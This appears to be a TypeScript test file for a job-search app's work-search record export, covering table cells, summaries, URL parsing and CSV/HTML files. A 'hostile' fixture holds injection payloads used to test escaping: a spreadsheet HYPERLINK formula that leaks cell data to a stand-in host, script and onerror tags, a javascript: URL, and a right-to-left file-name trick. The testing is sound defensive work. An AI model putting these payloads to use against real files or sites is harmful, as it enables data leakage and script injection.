import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { presetWays, RECORD_COLUMNS, RECORD_PRESETS } from '../../../../src/lib/domain/record/record';
import { workSearchRecord } from '../../../../src/lib/report/record/work-search';
import { tokenize, valueAt, widthOf } from '../../../../src/lib/sheet/csv/cells';
import { escapeFormula } from '../../../../src/lib/sheet/own-files/csv';
import {
	recordColumnHeader,
	periodWords,
	recordSentence,
	recordTable,
	spanWords
} from '../../../../src/lib/messages/week/record';
import { officeChoices, officeWords } from '../../../../src/lib/messages/week/record-presets';
import {
	chosenEntries,
	headerLines,
	readSpan,
	recordCsv,
	recordPage,
	withPart,
	writeSpan
} from '../../../../src/routes/week/record/record-view';
import { applied, DANA, leadWith, touchOn, wrote } from '../../../support/lead-desk';
import { runs } from '../../../runs';
import { text } from '../../../support/any-rows';

const TODAY = '2026-03-20';
const MARCH = { from: '2026-03-01', to: '2026-03-31' };
const WAYS = { ...presetWays('general'), columns: RECORD_COLUMNS };
const LEAD = leadWith({
	url: 'https://northwind.example/jobs/7',
	location: 'Berlin',
	reference: 'REF 7',
	people: [{ ...DANA, title: 'Head of Data' }],
	touches: [
		applied('2026-03-02', { personId: 'dana', proof: 'mail of 2 March' }),
		touchOn('2026-03-09', { channel: 'phone', outcome: 'no-answer' }),
		wrote('2026-03-10')
	]
});
const record = (lead = LEAD) => workSearchRecord([lead], MARCH, WAYS, 1, TODAY);

describe('the cells', () => {
	it('say all that an office asks for', () => {
		const { columns, rows } = recordTable(record().entries, RECORD_COLUMNS, 'general');
		expect(Object.fromEntries(columns.map(({ header }, at) => [header, rows[0]?.[at]]))).toEqual({
			Date: '2 March 2026',
			Activity: 'Application',
			Employer: 'Northwind',
			Address: 'Berlin',
			Link: 'https://northwind.example/jobs/7',
			'Phone or email': 'dana@northwind.example; +1 555 0100',
			Person: 'Dana Ruiz',
			Title: 'Head of Data',
			How: 'Company form',
			Position: 'Analyst',
			Reference: 'REF 7',
			Result: 'They replied on 10 March 2026',
			Proof: 'mail of 2 March',
			Counts: 'Yes'
		});
		expect(rows[1]?.[1]).toBe('Follow-up (call, no answer)');
		expect(rows[1]?.[13]).toBe('No');
	});

	it('stand in the order that was chosen, under the words of the form', () => {
		const { columns, rows } = recordTable(record().entries, ['position', 'day'], 'germany');
		expect(columns.map(({ header }) => header)).toEqual(['Stelle', 'Datum']);
		expect(rows[0]).toEqual(['Analyst', '2 March 2026']);
		expect(recordColumnHeader('proof', 'germany')).toBe('Proof');
	});
});

describe('the offices', () => {
	it('all have a name, and say that they are not legal advice', () => {
		expect(officeChoices.map(({ value }) => value)).toEqual(RECORD_PRESETS);
		for (const preset of RECORD_PRESETS) expect(officeWords(preset).join(' ')).toContain('not legal advice');
	});
});

describe('the sentences', () => {
	it.each([
		[[], 'Nothing was logged in this period.'],
		[[true], '1 entry, and it counts.'],
		[[true, true], '2 entries, and all of them count.'],
		[[false, false], '2 entries, and none of them count.'],
		[[true, false, true], '3 entries, and 2 of them count.']
	])('%j', (counts, sentence) => {
		expect(recordSentence(counts.map((each) => ({ counts: each })))).toBe(sentence);
	});

	it('tell what a week lacks', () => {
		const week = { from: '2026-03-16', to: '2026-03-22', counted: 2, target: 3, missing: 1, isOver: false };
		expect(spanWords(week)).toBe('16 March to 22 March 2026');
		expect(periodWords(week)).toBe('2 of 3, 1 to go by 22 March');
		expect(periodWords({ ...week, isOver: true })).toBe('2 of 3, 1 short');
		expect(periodWords({ ...week, counted: 4, missing: 0 })).toBe('4 of 3, done');
	});
});

describe('the address', () => {
	it('names the days, and nonsense is this week', () => {
		expect(readSpan(writeSpan(MARCH), 1, TODAY)).toEqual(MARCH);
		expect(readSpan('?from=2026-03-31&to=2026-03-01', 1, TODAY)).toEqual(MARCH);
		for (const odd of ['', '?from=2026-02-30&to=2026-03-01', '?from=x', '?to=2026-03-01'])
			expect(readSpan(odd, 1, TODAY)).toEqual({ from: '2026-03-16', to: '2026-03-22' });
	});
});

describe('the settings', () => {
	it('hold only what differs', () => {
		expect(withPart(undefined, 'columns', ['day'])).toEqual({ columns: ['day'] });
		expect(withPart({ preset: 'texas', columns: ['day'] }, 'columns', undefined)).toEqual({
			preset: 'texas'
		});
	});
});

const hostile = leadWith({
	organisation: '=HYPERLINK("http://e/?"&A1,"x")',
	role: '<script>alert(1)</script>',
	location: '![x](http://t/p.gif)',
	url: 'javascript:alert(1)',
	reference: '</td></table><img src=x onerror=alert(1)>',
	touches: [applied('2026-03-02', { proof: "@SUM('a')&\u202egpj.exe" })]
});

describe('what stands above the table', () => {
	it('is the span, the office, and the weeks that have begun', () => {
		const ways = presetWays('new-york');
		const target = workSearchRecord([LEAD], { from: '2026-03-09', to: '2026-03-29' }, ways, 1, TODAY);
		expect(headerLines(target, ways)).toEqual([
			'9 March to 29 March 2026',
			'New York (Department of Labor)',
			'9 March to 15 March 2026: 0 entries count; the target is 3',
			'16 March to 22 March 2026: 0 entries count; the target is 3'
		]);
	});
});

describe('the files', () => {
	it('are the entries that count, or all of them', () => {
		expect(chosenEntries(record(), false)).toHaveLength(1);
		expect(chosenEntries(record(), true)).toHaveLength(2);
	});

	it('as CSV hold every text, and nothing that is taken for a formula', () => {
		fc.assert(
			fc.property(text, text, text, (organisation, role, proof) => {
				const lead = leadWith({ organisation, role, touches: [applied('2026-03-02', { proof })] });
				const { content, name } = recordCsv(record(lead).entries, WAYS, MARCH);
				expect(name).toBe('Work-search record 2026-03-01 to 2026-03-31.csv');
				const csv = new TextDecoder('utf-8', { ignoreBOM: true }).decode(content as Uint8Array);
				expect(csv.startsWith('\ufeff')).toBe(true);
				const spans = tokenize(csv.slice(1), ',');
				const cells = Array.from({ length: widthOf(spans, 1) }, (_, column) => valueAt(spans, 1, column));
				for (const each of cells) expect(each).not.toMatch(/^[\s\ufeff]*[=+\-@＝＋－＠]/);
				const at = (column: (typeof RECORD_COLUMNS)[number]) => cells[RECORD_COLUMNS.indexOf(column)];
				expect([at('day'), at('employer'), at('position'), at('proof')]).toEqual(
					['2026-03-02', organisation, role, proof].map(escapeFormula)
				);
			}),
			{ numRuns: runs() }
		);
	});

	it('as HTML hold no markup but their own, and no link, picture or script', () => {
		const html = recordPage(record(hostile), record(hostile).entries, WAYS).content as string;
		const tags = new Set(
			Array.from(html.matchAll(/<\/?([a-z!][a-z0-9]*)/gi), ([, tag]) => tag?.toLowerCase())
		);
		expect([...tags].sort()).toEqual(
			[
				'!doctype',
				'body',
				'div',
				'h1',
				'head',
				'html',
				'meta',
				'p',
				'style',
				'table',
				'tbody',
				'td',
				'th',
				'thead',
				'title',
				'tr'
			].sort()
		);
		expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
		const attributes = Array.from(html.matchAll(/<[a-z][^>]*>/gi), ([tag]) => tag).join(' ');
		expect(attributes).not.toMatch(/\s(href|src|on\w+)=/i);
		expect(html).toContain("default-src 'none'");
	});

	it('as HTML hold every text as it is', () => {
		const unescaped = (cell: string) =>
			cell.replace(
				/&(lt|gt|quot|#39|amp);/g,
				(_all, name: string) => ({ lt: '<', gt: '>', quot: '"', '#39': "'", amp: '&' })[name]!
			);
		fc.assert(
			fc.property(text, (proof) => {
				const lead = leadWith({ touches: [applied('2026-03-02', { proof })] });
				const html = recordPage(record(lead), record(lead).entries, WAYS).content as string;
				const cells = Array.from(html.matchAll(/<td[^>]*>([^<]*)<\/td>/g), ([, cell]) => unescaped(cell!));
				expect(cells).toHaveLength(RECORD_COLUMNS.length);
				expect(cells[RECORD_COLUMNS.indexOf('proof')]).toBe(proof.replace(/[^\P{Cc}\t\n]/gu, ''));
			}),
			{ numRuns: runs() }
		);
	});
});
